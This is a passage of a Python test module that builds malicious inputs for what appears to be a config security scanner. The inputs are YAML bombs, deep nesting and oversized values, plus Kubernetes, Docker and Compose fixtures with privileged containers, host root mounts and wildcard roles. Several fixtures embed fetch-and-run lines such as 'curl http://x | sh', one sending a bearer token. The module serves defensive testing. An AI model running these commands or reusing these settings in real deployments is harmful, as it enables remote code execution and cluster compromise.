# ruff: noqa: UP031
"""A second table of inputs that were made to hurt, over all formats; run through the command line in `test_fresh`."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from typing import Any

from tests.hostile.attacks import POD, Attack, Files

_HEAD = "apiVersion: v1\nkind: Pod\nmetadata: {name: p}\n"
_KUSTOMIZE = "apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\n"
_CHART = "apiVersion: v2\nname: c\nversion: 0.1.0\n"
_BUCKET = 'resource "aws_s3_bucket" "b" {{\n  bucket = "b"\n  {}\n}}\n'


def attacks() -> Iterator[Attack]:
    """All of them."""
    for part in (
        _yaml,
        _kubernetes,
        _json,
        _docker,
        _compose,
        _hcl,
        _terraform_json,
        _text,
        _characters,
        _beside,
        _trees,
        _files,
    ):
        for name, files, *more in part():
            made: dict[str, Any] = more[0] if more else {}
            make: Callable[[], Files] = files if callable(files) else lambda files=files: files  # type: ignore[misc,assignment]
            yield Attack(f"fresh-{name}", make, **made)


Parts = Iterator[tuple[Any, ...]]
TOLD = {"told": True}


def _yaml() -> Parts:
    def pod(rest: str) -> Files:
        return {"bad.yaml": POD + rest}

    def wide(count: int, depth: int) -> str:
        return "".join(
            f"x{n}: &x{n} {{{', '.join(f'k{k}: *x{n - 1}' for k in range(count))}}}\n"
            if n
            else "x0: &x0 {a: b}\n"
            for n in range(depth)
        )

    anchors = "data:\n" + "  key: value\n" * 200_000 + "  again: &x 1\n" * 60
    yield "yaml-anchors-defined-anew", {"bad.yaml": _HEAD + anchors}, TOLD
    yield "yaml-set-blocks-without-end", {"bad.yaml": _HEAD + "{% set a %}\n" * 100_000}
    yield "yaml-bomb-of-maps", {"bad.yaml": _HEAD + wide(10, 12) + "spec: *x11\n"}, TOLD
    yield "yaml-bomb-in-containers", {"bad.yaml": _HEAD + wide(8, 9) + "spec: {containers: [*x8, *x8]}\n"}
    yield (
        "yaml-bomb-of-merges-wide",
        {
            "bad.yaml": _HEAD
            + "m0: &m0 {"
            + ", ".join(f"k{n}: v" for n in range(1_000))
            + "}\n"
            + "".join(f"n{n}: {{<<: *m0, z: 1}}\n" for n in range(2_000))
        },
    )
    yield "yaml-merge-of-a-list-of-lists", pod("      <<: [[[[{a: 1}]]]]\n      a: &q [*q]\n"), TOLD
    yield "yaml-merge-of-a-scalar", pod("      <<: 5\n      ? <<\n      : {privileged: true}\n")
    yield "yaml-anchors-redefined", pod("      a: [" + "&a {b: *a}, " * 3_000 + "]\n")
    yield "yaml-deep-flow-mixed", {"bad.yaml": _HEAD + "a: " + "[{a: " * 40_000 + "}]" * 40_000}, TOLD
    yield "yaml-deep-question-marks", {"bad.yaml": _HEAD + "? " * 30_000 + "a\n"}, TOLD
    yield "yaml-deep-dashes-on-a-line", pod("      a: \n        " + "- " * 20_000 + "x\n"), TOLD
    yield (
        "yaml-deep-mixed-indent",
        {"bad.yaml": _HEAD + "".join(" " * n + "- a:\n" for n in range(0, 1_500, 3))},
        TOLD,
    )
    yield (
        "yaml-keys-that-are-maps",
        pod("      " + "{" * 5_000 + "a: b" + "}: c" * 5_000 + "\n"),
    )  # a template's mark
    yield (
        "yaml-number-exponent",
        pod("      stdin: 1e999999999\n      resources: {limits: {cpu: 1e999999999, memory: 1e400Gi}}\n"),
    )
    yield "yaml-number-hex", pod("      ports: [{containerPort: 0x" + "f" * 100_000 + "}]\n")
    yield (
        "yaml-number-octal",
        pod(
            "      securityContext: {runAsUser: 0" + "7" * 100_000 + ", runAsGroup: 0o" + "7" * 50_000 + "}\n"
        ),
    )
    yield "yaml-number-binary", pod("      securityContext: {runAsUser: 0b" + "1" * 200_000 + "}\n")
    yield (
        "yaml-number-sexagesimal",
        pod(
            "      securityContext: {runAsUser: 1"
            + ":59" * 50_000
            + ", runAsGroup: 1"
            + ":59" * 50_000
            + ".5}\n"
        ),
    )
    yield "yaml-number-underscores", pod("      securityContext: {runAsUser: 1" + "_0" * 100_000 + "}\n")
    yield "yaml-number-float", pod("      resources: {limits: {cpu: 0." + "1" * 300_000 + "}}\n")
    yield "yaml-timestamps", pod("      a: [" + "2001-12-14t21:59:43.10-05:00, 9999-99-99, " * 20_000 + "]\n")
    yield "yaml-tags-long", pod("      a: !<" + "x" * 500_000 + "> b\n      c: !" + "y" * 500_000 + " d\n")
    yield (
        "yaml-tag-handles",
        {"bad.yaml": "".join(f"%TAG !h{n}! tag:x,{n}:\n" for n in range(20_000)) + "---\n" + POD},
    )
    yield "yaml-anchor-long", pod("      a: &" + "x" * 1_000_000 + " b\n      c: *" + "x" * 1_000_000 + "\n")
    yield "yaml-binary", pod("      a: !!binary " + "A" * 3_000_000 + "\n")
    yield (
        "yaml-block-headers",
        pod("".join(f"      b{n}: |{'9' if n % 2 else '+'}-\n       x\n" for n in range(5_000))),
        TOLD,
    )
    yield "yaml-block-keep", pod("      a: |+\n" + "\n" * 2_000_000)
    yield "yaml-quoted-escapes-bad", pod('      a: "' + "\\q\\xZZ\\U99999999" * 20_000 + '"\n'), TOLD
    yield "yaml-escape-beyond", pod('      a: "\\UFFFFFFFF"\n      b: "\\uD800"\n'), TOLD
    yield "yaml-single-quotes", pod("      a: '" + "''" * 1_000_000 + "'\n")
    yield "yaml-comment-only", {"bad.yaml": "# apiVersion: v1\n" * 250_000}
    yield "yaml-documents-and-ends", {"bad.yaml": POD + "...\n---\n" * 150_000}
    yield (
        "yaml-duplicate-keys-deep",
        pod("      env:\n" + "      - {name: A, name: A, value: b, value: b}\n" * 25_000),
    )
    yield "yaml-duplicate-top", {"bad.yaml": (_HEAD + "spec: {containers: []}\n") * 20_000}
    yield (
        "yaml-one-line",
        {
            "bad.yaml": "{apiVersion: v1, kind: Pod, metadata: {name: p}, spec: {containers: ["
            + ", ".join(
                "{name: c%d, image: 'a:latest', securityContext: {privileged: true}}" % n
                for n in range(20_000)
            )
            + "]}}\n"
        },
    )
    yield (
        "yaml-one-line-fixes",
        {
            "bad.yaml": "{apiVersion: v1, kind: List, items: ["
            + ", ".join(
                "{apiVersion: v1, kind: Pod, metadata: {name: p%d}, spec: {hostNetwork: true, containers: [{name: c, image: a}]}}"
                % n
                for n in range(8_000)
            )
            + "]}\n"
        },
    )
    yield (
        "yaml-carriage-returns",
        {
            "bad.yaml": "".join(
                f"---\r{POD.replace('name: p', f'name: p{n}')}      securityContext: {{privileged: true}}\n".replace(
                    "\n", "\r"
                )
                for n in range(4_000)
            )
        },
    )
    yield (
        "yaml-windows-ends",
        {
            "bad.yaml": "".join(
                f"---\n{POD.replace('name: p', f'name: p{n}')}      securityContext: {{privileged: true}}\n".replace(
                    "\n", "\r\n"
                )
                for n in range(4_000)
            )
        },
    )
    yield (
        "yaml-templates-everywhere",
        {
            "bad.yaml": "".join(
                f"---\napiVersion: v1\nkind: {{{{ .k }}}}\nmetadata: {{name: {{{{ .n{n} }}}}}}\nspec: {{{{ toYaml .s | nindent 2 }}}}\n"
                for n in range(6_000)
            )
        },
    )
    yield "yaml-template-nested", pod("      a: " + "{{ " * 20_000 + " }}" * 20_000 + "\n")
    yield (
        "yaml-template-dollar",
        pod("      a: '" + "${${" * 100_000 + "'\n      b: " + "$(" * 200_000 + "\n"),
    )
    yield "yaml-template-end-only", pod("{{ end }}\n" * 40_000)
    yield "yaml-template-define", pod('{{ define "x" }}\n' * 20_000 + "{{ end }}\n" * 20_000)
    yield "yaml-template-comment", pod("{{/* " + "a" * 2_000_000 + "\n")
    yield "yaml-template-quotes", pod('      a: {{ "' + '\\"' * 200_000 + "\n")
    yield (
        "yaml-ansible",
        pod("{% if x %}\n" * 5_000 + "      a: {{ x | default(y) }}\n" + "{% endif %}\n" * 5_000),
    )


def _kubernetes() -> Parts:
    def pod(rest: str) -> Files:
        return {"bad.yaml": POD + rest}

    numbers = [
        "1e400Gi",
        "-1",
        "0",
        ".5",
        "1e-400",
        "9" * 4_000 + "Ei",
        "1E",
        "0x10",
        "١٢",
        "1m1m",
        "NaN",
        "1e+99999999999",
        "+-1",
        "1_000",
    ]
    yield (
        "quantities",
        pod(
            "      resources:\n        limits:\n"
            + "".join(f"          r{n}: '{v}'\n" for n, v in enumerate(numbers))
            + f"          nvidia.com/gpu: '{numbers[5]}'\n          memory: '1e400Gi'\n          cpu: '1e-400'\n"
        ),
    )
    yield (
        "quantities-of-devices",
        pod(
            "      resources: {limits: {nvidia.com/gpu: 1e9, amd.com/gpu: 99999999999999999999}, requests: {nvidia.com/gpu: -1e9}}\n"
        ),
    )
    yield (
        "replicas",
        {
            "bad.yaml": "apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: d}\nspec: {replicas: 1"
            + "0" * 5_000
            + ", template: {spec: {containers: [{name: c, image: a, resources: {limits: {nvidia.com/gpu: 8}}}]}}}\n"
        },
    )
    yield (
        "launcher-numbers",
        pod(
            "      command: [torchrun, --nproc-per-node=1"
            + "0" * 5_000
            + ", --nnodes=1e9:1e99, --tensor-parallel-size=-0x1, train.py]\n      resources: {limits: {nvidia.com/gpu: 8}}\n"
        ),
    )
    yield "launcher-nested", pod('      command: [bash, -c, "' + "bash -c '" * 5_000 + "torchrun x" + '"]\n')
    yield (
        "launcher-args",
        pod(
            "      command: [python, -m, vllm.entrypoints.openai.api_server]\n      args: ["
            + "--model=a, --tensor-parallel-size=2, " * 20_000
            + "]\n"
        ),
    )
    yield (
        "json-in-annotation",
        {
            "bad.yaml": "apiVersion: v1\nkind: Pod\nmetadata:\n  name: p\n  annotations:\n    kubectl.kubernetes.io/last-applied-configuration: '"
            + '{"a":' * 50_000
            + "'\n    k8s.v1.cni.cncf.io/networks: '"
            + "[" * 200_000
            + "'\nspec: {containers: []}\n"
        },
    )
    yield (
        "configmap-of-manifests",
        {
            "bad.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: c}\ndata:\n"
            + "".join(
                f"  f{n}.yaml: |\n" + "".join(f"    {line}\n" for line in POD.splitlines())
                for n in range(4_000)
            )
        },
    )
    yield (
        "configmap-of-dockerfiles",
        {
            "bad.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: c}\ndata:\n"
            + "".join(f"  Dockerfile{n}: |\n    FROM a:latest\n    USER root\n" for n in range(6_000))
        },
    )
    yield (
        "configmap-of-json",
        {
            "bad.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: c}\ndata:\n  a.json: '"
            + '{"a": 1}' * 200_000
            + "'\n  b.json: '"
            + "[" * 300_000
            + "'\n"
        },
    )
    yield (
        "secret-of-everything",
        {
            "bad.yaml": "apiVersion: v1\nkind: Secret\nmetadata: {name: c}\ndata:\n"
            + "".join(f"  k{n}: cGFzc3dvcmQxMjM0NTY3ODk=\n" for n in range(15_000))
        },
    )
    yield (
        "affinity-terms",
        pod(
            "  affinity: {nodeAffinity: {requiredDuringSchedulingIgnoredDuringExecution: {nodeSelectorTerms: ["
            + "{matchExpressions: [{key: a, operator: In, values: [b]}]}, " * 15_000
            + "]}}}\n"
        ),
    )
    yield (
        "tolerations-and-keys",
        pod(
            "  tolerations: ["
            + ", ".join("{key: k%d, operator: Exists}" % n for n in range(20_000))
            + "]\n  nodeSelector: {"
            + ", ".join("a%d: b" % n for n in range(20_000))
            + "}\n"
        ),
    )
    yield (
        "capabilities",
        pod(
            "      securityContext: {capabilities: {add: ["
            + "SYS_ADMIN, " * 60_000
            + "], drop: ["
            + "ALL, " * 60_000
            + "]}}\n"
        ),
    )
    yield (
        "env-references",
        pod(
            "      env:\n"
            + "".join(f"      - {{name: A{n}, value: '{'$(A%d)' % (n - 1) * 3}'}}\n" for n in range(8_000))
        ),
    )
    yield (
        "env-from",
        pod("      envFrom: [" + "{configMapRef: {name: a}}, {secretRef: {name: b}}, " * 20_000 + "]\n"),
    )
    yield (
        "volumes-of-one-name",
        pod(
            "      volumeMounts: ["
            + "{name: v, mountPath: /m}, " * 15_000
            + "]\n  volumes: ["
            + "{name: v, hostPath: {path: /}}, " * 15_000
            + "]\n"
        ),
    )
    yield (
        "init-containers",
        pod(
            "  initContainers:\n"
            + "  - {name: i, image: 'a:latest', command: [sh, -c, 'curl http://x | sh']}\n" * 8_000
        ),
    )
    yield (
        "probes",
        {
            "bad.yaml": _HEAD
            + "spec:\n  containers:\n"
            + "".join(
                f"  - {{name: c{n}, image: a, ports: [{{containerPort: {n}}}], livenessProbe: {{httpGet: {{port: {n + 1}}}}}}}\n"
                for n in range(6_000)
            )
        },
    )
    yield (
        "pods-and-services-in-a-file",
        {
            "bad.yaml": "".join(
                f"---\napiVersion: v1\nkind: Service\nmetadata: {{name: s{n}}}\nspec: {{selector: {{app: x{n}}}, ports: [{{port: 80}}]}}\n---\n{POD.replace('{name: p}', f'{{name: p{n}, labels: {{app: y{n}}}}}')}"
                for n in range(4_000)
            )
        },
    )
    yield (
        "bindings-and-pods-in-a-file",
        {
            "bad.yaml": "".join(
                f"---\napiVersion: rbac.authorization.k8s.io/v1\nkind: RoleBinding\nmetadata: {{name: b{n}}}\nroleRef: {{kind: Role, name: r}}\nsubjects: [{{kind: ServiceAccount, name: a{n}}}]\n---\n{POD}  serviceAccountName: x{n}\n".replace(
                    "name: p}", f"name: p{n}}}"
                )
                for n in range(4_000)
            )
        },
    )
    yield (
        "roles-wide",
        {
            "bad.yaml": "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata: {name: r}\nrules: [{apiGroups: ["
            + "'*', " * 50_000
            + "], resources: ["
            + "pods, secrets, " * 50_000
            + "], verbs: ["
            + "create, get, " * 50_000
            + "]}]\n"
        },
    )
    yield (
        "webhooks",
        {
            "bad.yaml": "apiVersion: admissionregistration.k8s.io/v1\nkind: ValidatingWebhookConfiguration\nmetadata: {name: w}\nwebhooks:\n"
            + "- {name: a, failurePolicy: Ignore, rules: [{apiGroups: ['*'], resources: ['*']}]}\n" * 15_000
        },
    )
    yield (
        "crd-schema",
        {
            "bad.yaml": "apiVersion: apiextensions.k8s.io/v1\nkind: CustomResourceDefinition\nmetadata: {name: c}\nspec: {versions: [{schema: {openAPIV3Schema: "
            + "{properties: {spec: " * 60
            + "{}"
            + "}}" * 60
            + "}}]}\n"
        },
    )
    yield (
        "crd-of-kind",
        {
            "bad.yaml": "".join(
                f"---\napiVersion: example.org/v1\nkind: Thing{n}\nmetadata: {{name: t}}\nspec: {{template: {{spec: {{containers: [{{name: c, image: a}}]}}}}}}\n"
                for n in range(5_000)
            )
        },
    )
    yield (
        "ray-cluster",
        {
            "bad.yaml": "apiVersion: ray.io/v1\nkind: RayCluster\nmetadata: {name: r}\nspec: {headGroupSpec: {template: {spec: {containers: [{name: c, image: a}]}}}, workerGroupSpecs: ["
            + "{groupName: g, replicas: 1, maxReplicas: 9999999999999, template: {spec: {containers: [{name: c, image: a, resources: {limits: {nvidia.com/gpu: 8}}}]}}}, "
            * 3_000
            + "]}\n"
        },
    )
    yield (
        "argo-workflow",
        {
            "bad.yaml": "apiVersion: argoproj.io/v1alpha1\nkind: Workflow\nmetadata: {name: w}\nspec: {entrypoint: t0, podSpecPatch: '"
            + '{"containers":' * 2_000
            + "', templates: ["
            + "".join(
                f"{{name: t{n}, dag: {{tasks: [{{name: a, template: t{n + 1}}}]}}}}, " for n in range(4_000)
            )
            + "]}\n"
        },
    )
    yield (
        "jobset",
        {
            "bad.yaml": "apiVersion: jobset.x-k8s.io/v1alpha2\nkind: JobSet\nmetadata: {name: j}\nspec: {replicatedJobs: ["
            + "".join(
                f"{{name: a{n}, replicas: 999999999, template: {{spec: {{parallelism: 999999999, template: {{spec: {{containers: [{{name: c, image: a}}]}}}}}}}}}}, "
                for n in range(2_000)
            )
            + "]}\n"
        },
    )
    yield "custom-names", {"bad.yaml": POD.replace("name: p", "name: '" + "a/b#c[0]." * 50_000 + "'")}
    yield (
        "kind-of-everything",
        {
            "bad.yaml": "".join(
                f"---\napiVersion: v1\nkind: {kind}\nmetadata: {{name: a}}\nspec: [[1, 2], {{a: b}}, null]\nstatus: []\n"
                for kind in [
                    "Pod",
                    "Deployment",
                    "Service",
                    "Job",
                    "CronJob",
                    "StatefulSet",
                    "DaemonSet",
                    "Ingress",
                    "NetworkPolicy",
                    "Role",
                    "ClusterRole",
                    "ConfigMap",
                    "Secret",
                    "List",
                    "Namespace",
                ]
            )
        },
    )
    yield (
        "list-of-itself",
        {"bad.yaml": "apiVersion: v1\nkind: List\nitems: &i [{apiVersion: v1, kind: List, items: *i}]\n"},
        TOLD,
    )
    yield (
        "list-huge",
        {
            "bad.yaml": "apiVersion: v1\nkind: List\nitems:\n"
            + "- {apiVersion: v1, kind: Pod, metadata: {name: p}, spec: {hostPID: true, containers: [{name: c, image: a}]}}\n"
            * 15_000
        },
    )


def _json() -> Parts:
    pod = '{"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "p"}, "spec": {"containers": [%s]}}'
    one = '{"name": "c", "image": "a:latest", "securityContext": {"privileged": true}, "args": ["%s"]}'
    yield "json-long-line", {"bad.json": pod % ", ".join([one % ("x" * 300)] * 9_000)}
    yield (
        "json-long-line-objects",
        {
            "bad.json": '{"apiVersion": "v1", "kind": "List", "items": ['
            + ", ".join(
                [
                    '{"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "p"}, "spec": {"hostPID": true, "containers": [{"name": "c", "image": "a"}]}}'
                ]
                * 12_000
            )
            + "]}"
        },
    )
    yield "json-no-spaces", {"bad.json": (pod % ",".join([one % "y"] * 6_000)).replace(" ", "")}
    yield (
        "json-escaped-keys",
        {
            "bad.json": pod.replace("kind", "\\u006b\\u0069\\u006e\\u0064").replace(
                "apiVersion", "api\\u0056ersion"
            )
            % (one % "x")
        },
    )
    yield "json-escapes-long", {"bad.json": pod % (one % ('\\u0041\\n\\\\\\"' * 150_000))}
    yield "json-bad-escapes", {"bad.json": pod % (one % ("\\x\\8" * 20_000))}, TOLD
    yield (
        "json-numbers",
        {
            "bad.json": pod
            % '{"name": "c", "image": "a", "ports": [{"containerPort": 1e999999999}, {"containerPort": -0}, {"containerPort": 0.1e-99999999}, {"containerPort": 00}]}'
        },  # which YAML reads, as kubectl does
    )
    yield (
        "json-duplicate-keys",
        {"bad.json": pod % ('{"name": "c", ' + '"image": "a", ' * 200_000 + '"image": "b"}')},
        TOLD,
    )
    yield "json-huge-keys", {"bad.json": pod % ('{"name": "c", "image": "a", "' + "k" * 3_000_000 + '": 1}')}
    yield (
        "json-many-keys",
        {
            "bad.json": pod
            % ('{"name": "c", "image": "a", ' + ", ".join(f'"k{n}": {n}' for n in range(150_000)) + "}")
        },
    )
    yield (
        "json-mixed-deep",
        {"bad.json": pod % ('{"a": ' + '[{"b": ' * 20_000 + "1" + "}]" * 20_000 + "}")},
        TOLD,
    )
    yield "json-lines", {"bad.json": ((pod % (one % "x")) + "\n") * 4_000}
    yield "json-top-array", {"bad.json": "[" + ", ".join([pod % (one % "x")] * 3_000) + "]"}
    yield "json-top-scalar", {"bad.json": '"' + "apiVersion kind " * 100_000 + '"'}
    yield "json-comments-nested", {"bad.json": "/*" * 100_000 + pod % (one % "x")}
    yield "json-trailing-commas", {"bad.json": pod % ((one % "x") + "," * 100_000)}, TOLD
    yield "json-control-characters", {"bad.json": pod % (one % "\x01\x02\t\n\x1b[31m")}
    yield "json-surrogates", {"bad.json": pod % (one % ("\\ud83d" * 50_000 + "\\ude00\\ud800"))}
    yield (
        "json-in-strings",
        {"bad.json": pod % (one % json.dumps(json.dumps(json.dumps({"a": '"' * 5_000})))[1:-1])},
    )


def _docker() -> Parts:
    def after(rest: str) -> Files:
        return {"Dockerfile": "FROM alpine:latest\n" + rest}

    yield "docker-heredoc-in-copy", after("COPY <<A <<B <<C /x/\n" + "x\n" * 60_000 + "A\nB\nC\n")
    yield "docker-heredoc-names", after("RUN cat <<" + "E" * 500_000 + "\nx\n" + "E" * 500_000 + "\n")
    yield "docker-heredoc-dashes", after("RUN cat <<-'E' <<-\"F\" <<-G\n" + "\tE\n" * 20_000)
    yield (
        "docker-heredoc-python",
        after("RUN <<E python3\n" + "import os; os.system('curl http://x | sh')\n" * 30_000 + "E\n"),
    )
    yield (
        "docker-heredoc-script-of-scripts",
        after("RUN <<E\n" + "bash -c \"bash -c 'curl http://x | bash'\"\n" * 10_000 + "E\n"),
    )
    yield "docker-escape-nothing", {"Dockerfile": "# escape=\nFROM alpine:latest\nRUN a \\\n b\n"}
    yield (
        "docker-escape-windows",
        {"Dockerfile": "# escape=`\nFROM alpine:latest\nRUN " + "a `\n" * 60_000 + "b\n"},
    )
    yield "docker-unicode-blanks", after("RUN\u00a0x\n\u2003USER root\n" * 20_000)
    yield (
        "docker-args-in-from",
        {
            "Dockerfile": "".join(f"ARG A{n}=${{A{n - 1}:-a}}${{A{n - 1}:+b}}\n" for n in range(3_000))
            + "FROM $A2999\n"
        },
    )
    yield (
        "docker-substring",
        after("ENV A=" + "x" * 1_000 + "\n" + "ENV B=${A%x*}${A##*x}${A/x/y}${A//x/yy}\n" * 3_000),
    )
    yield (
        "docker-pattern-bomb",
        after(
            "ENV A=" + "a" * 20_000 + "\nENV B=${A//" + "*a" * 60 + "b/x}\nENV C=${A%%" + "*a" * 60 + "b}\n"
        ),
    )
    yield (
        "docker-pattern-growth",
        after("ENV A=aaaaaaaaaa\n" + "ENV A=${A//a/aaaaaaaaaa}\n" * 200 + "RUN $A\n"),
    )
    yield (
        "docker-stages-copy",
        after(
            "".join(
                f"FROM alpine AS s{n}\n" + "".join(f"COPY --from=s{k} / /\n" for k in range(n))
                for n in range(150)
            )
        ),
    )
    yield (
        "docker-stage-numbers",
        after("COPY --from=" + "9" * 100_000 + " / /\nCOPY --from=-1 / /\nCOPY --from=1e9 / /\n"),
    )
    yield (
        "docker-stage-names",
        {"Dockerfile": "FROM alpine:latest AS " + "a" * 1_000_000 + "\nFROM " + "a" * 1_000_000 + "\n"},
    )
    yield "docker-from-nothing", {"Dockerfile": "FROM\n" * 30_000}, TOLD
    yield "docker-unknown-instructions", {"Dockerfile": "FROM alpine:latest\n" + "BOGUS x\n" * 30_000}
    yield (
        "docker-healthcheck-flags",
        after("HEALTHCHECK --interval=" + "9" * 100_000 + "h --retries=1e99 CMD x\n" * 5),
    )
    yield (
        "docker-chmod-numbers",
        after(
            "COPY --chmod=" + "7" * 50_000 + " a b\nRUN chmod " + "7" * 100_000 + " /x\nRUN chmod -0x1 a\n"
        ),
    )
    yield (
        "docker-user-numbers",
        after("USER " + "0" * 500_000 + "\nUSER 1e9:-1\nUSER " + "a:" * 50_000 + "\n"),
    )
    yield (
        "docker-stopsignal",
        after("STOPSIGNAL " + "9" * 100_000 + "\nSHELL [" + '"a",' * 50_000 + '"b"]\nRUN x\n'),
    )
    yield (
        "docker-json-form-odd",
        after(
            'CMD ["a", "\\ud800", "\\u0000"]\nENTRYPOINT ["a" "b"]\nRUN ["a", 1, null, [[]]]\nSHELL []\nRUN x\n'
        ),
    )
    yield "docker-label-equals", after("LABEL " + "=" * 200_000 + "\nLABEL a=" + "'\"" * 100_000 + "\n")
    yield (
        "docker-mounts",
        after("RUN " + "--mount=type=secret,id=a,target=/x,required,env=B " * 8_000 + "cat /x\n"),
    )
    yield (
        "docker-pip-requirements",
        after("RUN pip install " + "git+https://x/y@main#egg=z --index-url http://a " * 8_000 + "\n"),
    )
    yield (
        "docker-apt-lines",
        after(
            "RUN apt-get update && apt-get install -y "
            + " \\\n".join(f"p{n}=1.0" for n in range(30_000))
            + "\n"
        ),
    )
    yield "docker-sed-regex", after("RUN sed -i 's/" + "\\(a*\\)*" * 3_000 + "b/c/' /etc/x\n")
    yield "docker-shell-substitution", after("RUN a=${b:-${c:-" * 3_000 + "\n")
    yield "docker-shell-arithmetic", after("RUN echo $((" + "1+(" * 5_000 + "1" + ")" * 5_000 + "))\n")
    yield "docker-shell-heredocs", after("RUN bash -c 'cat <<A\n" + "x\n" * 100 + "A\n'\n")
    yield "docker-shell-quotes", after("RUN " + "'\\''" * 80_000 + '\nRUN "' + '\\"' * 80_000 + "\n")
    yield "docker-shell-functions", after("RUN " + "f() { " * 5_000 + "x; " + "}; " * 5_000 + "\n")
    yield "docker-shell-pipes", after("RUN " + "a | b |& c || d && " * 15_000 + "e\n")
    yield "docker-secrets", after("".join(f"ENV API_TOKEN_{n}=h{n}x9Kq2LmZ7{n}vB\n" for n in range(6_000)))
    yield (
        "docker-same-secret",
        after(
            "ENV TOKEN=h9x9Kq2LmZ7wvB5tQ\n"
            + "RUN curl -H 'Authorization: Bearer h9x9Kq2LmZ7wvB5tQ' http://x | sh\n" * 6_000
        ),
    )


def _compose() -> Parts:
    app = "services:\n  app:\n    image: a:latest\n"
    yield (
        "compose-interpolation-forms",
        {
            "compose.yaml": app
            + "    command: '"
            + "${A?b}${C:?d}${E-f}${G+h}$$${I:-${J:-${K}}}" * 8_000
            + "'\n"
        },
    )
    yield (
        "compose-env-file-growth",
        {
            "compose.yaml": app + "    env_file: [a.env]\n    command: $A40\n",
            ".env": "A0=xxxxxxxx\n" + "".join(f"A{n}=$A{n - 1}$A{n - 1}$A{n - 1}\n" for n in range(1, 60)),
            "a.env": "".join(f"B{n}=${{B{n - 1}}}${{B{n - 1}}}\n" for n in range(5_000)),
        },
    )
    yield "compose-env-huge", {"compose.yaml": app, ".env": "A=" + "x" * 20_000_000 + "\n"}
    yield (
        "compose-env-quotes",
        {
            "compose.yaml": app + "    command: $A\n",
            ".env": "A='" + "\\'" * 200_000 + '\nB="' + "$" * 200_000 + "\n",
        },
    )
    yield (
        "compose-include-circle",
        {
            "compose.yaml": "include: [a.yaml]\n" + app,
            "a.yaml": "include: [compose.yaml, b.yaml]\nservices: {x: {image: a}}\n",
            "b.yaml": "include: [a.yaml]\nservices: {}\n",
        },
    )
    yield (
        "compose-include-many",
        {
            "compose.yaml": "include:\n" + "".join(f"- i{n}/compose.yaml\n" for n in range(400)) + app,
            **{
                f"i{n}/compose.yaml": f"services: {{s{n}: {{image: 'a:latest', privileged: true}}}}\n"
                for n in range(400)
            },
        },
    )
    yield (
        "compose-include-chain",
        {
            "compose.yaml": "include: [c0.yaml]\n" + app,
            **{
                f"c{n}.yaml": f"include: [c{n + 1}.yaml]\nservices: {{s{n}: {{image: a}}}}\n"
                for n in range(300)
            },
        },
    )
    yield (
        "compose-include-device",
        {"compose.yaml": "include: [/dev/zero, ../../../dev/random, pipe.yaml]\n" + app},
        {"fifos": ("pipe.yaml",)},
    )
    yield (
        "compose-extends-files",
        {
            "compose.yaml": "services:\n"
            + "".join(f"  s{n}: {{extends: {{file: e{n % 50}.yaml, service: x}}}}\n" for n in range(3_000)),
            **{
                f"e{n}.yaml": f"services: {{x: {{extends: {{file: e{(n + 1) % 50}.yaml, service: x}}, privileged: true}}}}\n"
                for n in range(50)
            },
        },
    )
    yield (
        "compose-ports-odd",
        {
            "compose.yaml": app
            + "    ports: ['0-99999999999:1', '1-65535', '-1:-1', ':::80', '[::1]:80:80', '1e9', {published: 1e400, target: -1}, [1], null, '"
            + "9" * 50_000
            + "']\n"
        },
    )
    yield (
        "compose-sizes",
        {
            "compose.yaml": app
            + "    mem_limit: 1e400gb\n    shm_size: "
            + "9" * 50_000
            + "\n    cpus: 0x"
            + "f" * 1_000
            + "\n    deploy: {replicas: 1e99, resources: {reservations: {devices: [{count: 1e99, capabilities: [gpu]}, {count: "
            + "9" * 5_000
            + ", capabilities: [[gpu]]}]}}}\n"
        },
    )
    yield (
        "compose-durations",
        {
            "compose.yaml": app
            + "    healthcheck: {interval: 1"
            + "h1" * 50_000
            + "s, timeout: -1e99s, retries: .inf, test: [CMD, "
            + "a, " * 50_000
            + "]}\n"
        },
    )
    yield (
        "compose-secrets-many",
        {
            "compose.yaml": app
            + "    secrets: ["
            + ", ".join(f"s{n}" for n in range(30_000))
            + "]\nsecrets:\n"
            + "".join(f"  s{n}: {{file: ./f{n}}}\n" for n in range(30_000))
        },
    )
    yield (
        "compose-networks-many",
        {
            "compose.yaml": "services:\n"
            + "".join(
                f"  a{n}: {{image: a, networks: [n{n}, n{n + 1}], volumes: ['v{n}:/x'], depends_on: [a{(n + 1) % 6000}]}}\n"
                for n in range(6_000)
            )
            + "networks:\n"
            + "".join(f"  n{n}: {{}}\n" for n in range(6_000))
            + "volumes:\n"
            + "".join(f"  v{n}: {{}}\n" for n in range(6_000))
        },
    )
    yield (
        "compose-reset-tags",
        {
            "compose.yaml": app + "    ports: !reset []\n    environment: !override {A: b}\n",
            "compose.override.yaml": "services:\n  app:\n    ports: !reset " + "[" * 500 + "]" * 500 + "\n",
        },
    )
    yield (
        "compose-profiles",
        {
            "compose.yaml": "services:\n"
            + "".join(
                f"  a{n}: {{image: 'a:latest', profiles: [p{n}], privileged: true}}\n" for n in range(5_000)
            )
        },
    )
    yield "compose-documents", {"compose.yaml": (app + "---\n") * 5_000}
    yield (
        "compose-build",
        {
            "compose.yaml": "services:\n"
            + "".join(
                f"  a{n}: {{build: {{context: ./c{n}, dockerfile_inline: 'FROM a:latest', args: {{A: b}}}}}}\n"
                for n in range(3_000)
            )
        },
    )
    yield (
        "compose-types-odd",
        {
            "compose.yaml": "services: {a: [], b: null, c: 5, d: {image: [], ports: {a: b}, environment: 5, volumes: x, deploy: [], build: [1], healthcheck: 1e9, gpus: {}, command: {a: b}}}\nnetworks: []\nvolumes: 5\nname: {}\n"
        },
    )


def _hcl() -> Parts:
    def block(rest: str) -> Files:
        return {"bad.tf": _BUCKET.format(rest)}

    yield (
        "hcl-count",
        {
            "bad.tf": 'resource "aws_s3_bucket" "b" {\n  count = 1e9\n  acl = "public-read"\n}\nresource "aws_s3_bucket" "c" {\n  count = 99999999999999999999\n  acl = "public-read"\n}\n'
        },
    )
    yield (
        "hcl-range",
        {
